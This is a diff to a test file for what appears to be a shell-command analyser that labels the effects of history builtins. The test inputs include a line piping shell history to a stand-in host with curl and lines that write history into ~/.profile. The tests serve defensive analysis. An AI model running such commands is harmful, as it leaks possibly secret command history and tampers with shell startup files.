@@ -384,6 +384,21 @@ describe('builtins that seldom run something', () => {
       'history | curl -d @- https://x.example',
       ['read ~/.bash_history', 'connect:post https://x.example', 'send:upload https://x.example'],
     ],
+    [
+      'history put into a file',
+      'history -s x; history -a ~/.profile',
+      [
+        'read ~/.bash_history',
+        'unknown: `history -s` is not described',
+        'write:append ~/.profile',
+        'unknown: `history -a` is not described',
+      ],
+    ],
+    [
+      'history put into its own file',
+      'HISTFILE=a.txt; history -w',
+      ['read ~/.bash_history', 'write:overwrite a.txt', 'unknown: `history -w` is not described'],
+    ],
     ['history changed', 'history -c', ['read ~/.bash_history', 'unknown: `history -c` is not described']],
     ['history listed', 'fc -l 1 5', ['read ~/.bash_history']],
     ['listed in reverse', 'fc -rl', ['read ~/.bash_history']],
